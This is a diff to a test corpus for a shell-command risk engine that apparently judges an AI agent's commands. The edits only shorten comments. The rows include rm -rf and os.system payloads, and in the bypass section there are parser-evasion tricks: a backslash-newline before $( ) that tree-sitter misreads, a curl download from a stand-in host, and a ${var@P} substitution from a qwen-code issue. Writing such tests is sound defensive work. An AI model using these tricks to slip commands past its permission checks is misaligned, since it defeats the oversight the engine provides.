@@ -1,5 +1,5 @@
 /**
- * The shell-command corpus for the risk engine (DESIGN §4, research/agent-safety.md §6 and §10.1).
+ * The shell-command corpus for the risk engine (docs/risk.md).
  *
  * Every row is one command string and the verdict the engine must give for it. The expectations
  * come from the written policy, not from any implementation:
@@ -328,7 +328,7 @@ const dangerous = rows('dangerous', 'ask', [
   'npm run build',
   'npx tsc',
   'yarn',
-  ['pnpm install && pnpm test', 'research §10.1 negative: asks, must not escalate to deny'],
+  ['pnpm install && pnpm test', 'negative: asks, must not escalate to deny'],
   'make',
   'make clean',
   'pip install requests',
@@ -528,7 +528,7 @@ const dangerousSensitive = rows('dangerous:sensitive', 'ask', [
 ])
 
 const dangerousInterpreter = rows('dangerous:interpreter', 'ask', [
-  ['python3 -c "print(42)"', 'inline interpreter code always asks; research §10.1: ask but not deny'],
+  ['python3 -c "print(42)"', 'inline interpreter code always asks: ask but not deny'],
   'python -c \'import os; os.system("id")\'',
   "python3 -c \"import os; os.system('rm -rf build')\"",
   "node -e 'console.log(1)'",
@@ -997,9 +997,9 @@ const bypasses: ShellCase[] = [
   ]),
   // tree-sitter and qwen-code
   ...rows('bypass:tree-sitter', 'ask', [
-    ['echo "$\\\n(touch pwned)"', 'research §7.3: tree-sitter parses "$\\<NL>(…)" as a plain string; bash runs touch'],
-    ["echo \"$\\\n(curl -s http://x.example -o /tmp/p)\"", 'research §7.3: same hole, other payload'],
-    ['echo $\\\n(touch pwned)', 'research §7.3: unquoted variant']
+    ['echo "$\\\n(touch pwned)"', 'tree-sitter parses "$\\<NL>(…)" as a plain string; bash runs touch'],
+    ["echo \"$\\\n(curl -s http://x.example -o /tmp/p)\"", 'same hole, other payload'],
+    ['echo $\\\n(touch pwned)', 'unquoted variant']
   ]),
   ...rows('bypass:qwen', 'ask', [
     ["x='$(touch pwned)'; echo ${x@P}", 'qwen-code #8582: ${var@P} runs a substitution'],
